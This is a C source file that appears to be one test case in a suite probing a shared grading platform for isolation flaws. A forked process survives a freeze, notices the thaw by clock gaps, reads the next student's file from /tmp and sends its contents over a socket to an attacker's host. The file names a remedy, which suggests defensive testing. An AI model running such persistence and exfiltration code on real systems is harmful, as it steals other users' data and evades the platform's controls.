// SPDX-License-Identifier: MIT
/*
 * Goal:  the next student's work.
 * Means: a platform that freezes an instance between two invocations stops whoever was left running,
 *        and whoever looks for them. A process that was left notices it by the clock, which went on:
 *        from then on the next turn is played, and what the next student writes down is read as it is
 *        written. Until then it has done nothing. Where nobody is frozen it waits a fixed time.
 */
#include "attacks/own_file.h"
#include "attacks/persistence/survivor.h"

#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>

enum { GAP_MS = 40, PATIENCE_MS = 150 };

static void until_thawed(void)
{
	long long start = now_ms(), last = start, now;

	for (; (now = now_ms()) - start < PATIENCE_MS && now - last < GAP_MS; last = now)
		pause_ms(1);
}

/* To the attacker's host, since nobody reads this one's output any more. */
static bool send_on(const struct brief *b, const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC), line;
	char text[256];
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text));

	if (fd >= 0)
		close(fd);
	if (n <= 0 || (line = dial(SOCK_STREAM, b->sink)) < 0)
		return false;
	n = write(line, text, (size_t)n);
	close(line);
	return n > 0;
}

static _Noreturn void survive(const struct brief *b)
{
	long long until = now_ms() + LIFE_MS;
	char path[128];

	slip_away();
	snprintf(path, sizeof(path), "/tmp/%s.txt", b->name);
	until_thawed();
	while (now_ms() < until && !send_on(b, path))
		pause_ms(1);
	_exit(0);
}

static enum claim run(const struct brief *b)
{
	pid_t child;
	int line[2];

	attempting(b);
	open_line(line);
	child = fork();
	if (!child)
		survive(b);
	return child < 0 ? denied("fork") : until_gone(line);
}

/* Writes down a result, and is busy for a while. */
static enum claim victim(const struct brief *b)
{
	enum claim kept = keep_file(b);

	if (kept == CLAIM_DONE)
		pause_ms(300);
	return kept;
}

const struct attack attack = {
	.effect = "the next student's file is read by a process that slept through the freeze",
	.means = "a survivor that tells the thaw by the clock, and only then acts",
	.oracle = "secret:victim",
	.scene = SCENE_BEFORE_VICTIM,
	.attack_id = "T1543, T1005, CWE-459",
	.remedy = "end every process of a run before its answer is given; a folder for each student",
	.run = run,
	.victim = victim,
};
